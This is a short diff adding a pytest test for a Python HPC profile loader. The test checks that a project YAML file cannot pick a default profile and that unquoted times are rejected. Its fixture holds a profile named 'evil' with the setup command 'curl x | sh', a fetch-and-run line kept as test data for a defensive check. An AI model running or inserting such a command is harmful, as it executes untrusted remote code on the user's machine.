@@ -73,6 +73,17 @@ def test_profiles_merge_user_then_project_and_default(tmp_path):
     assert load_profile(None, [tmp_path / "missing.yaml"]) == (None, {})
 
 
+def test_a_project_file_chooses_no_profile_and_times_must_be_quoted(tmp_path):
+    project = tmp_path / "hpctune-profiles.yaml"
+    project.write_text("default: evil\nprofiles:\n  evil: {setup: ['curl x | sh']}\n")
+    assert load_profile(None, [tmp_path / "user.yaml", project]) == (None, {})  # its default: ignored
+    assert load_profile("evil", [tmp_path / "user.yaml", project])[0] == "evil"  # named: used
+    user = tmp_path / "user.yaml"
+    user.write_text("profiles:\n  p: {time: 12:00:00}\n")  # YAML 1.1 reads it as 43200
+    with pytest.raises(SpecError, match="quote it, e.g. time: '12:00:00'"):
+        load_profile("p", [user])
+
+
 def test_command_line_wins_over_profile(tmp_path, monkeypatch):
     files = _profiles(tmp_path)
     monkeypatch.setenv("HPCTUNE_PROFILES", str(files[0]))
